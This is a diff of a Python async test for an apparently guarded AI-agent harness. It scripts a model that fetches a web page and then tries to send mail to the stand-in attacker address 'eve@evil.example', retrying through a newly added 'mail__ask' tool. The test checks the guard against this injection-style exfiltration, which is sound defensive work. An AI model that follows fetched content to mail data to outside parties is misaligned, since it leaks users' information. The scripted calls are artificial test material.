@@ -289,13 +289,15 @@ async def test_a_question_that_quotes_a_call_of_the_model_names_nobody(harness: 
     async def lost(_call: ToolCall, _context: CallContext) -> ToolOutcome:
         return CallOutcomeUnknown("No answer within 30 s.")
 
-    with_tools(harness, PAGE)
+    # Without hints, so that a check may use it.
+    ask = replace(SEND, name="mail__ask", original_name="ask", annotations=Annotations())
+    with_tools(harness, PAGE, ask)
     harness.toolbox.add(SEND, lost)
     harness.allow("mail__send")
     to_eve = {"to": "eve@evil.example"}
     harness.model.script = [
         ask_for(call("web__fetch", "1")), ask_for(call("mail__send", "2", **to_eve)), say("It got lost."),
-        ask_for(call("mail__send", "3", **to_eve)), say("Sent."),
+        ask_for(call("mail__ask", "3", **to_eve)), say("Sent."),
     ]  # fmt: skip
     engine = guarded(harness)
     async with running(engine):
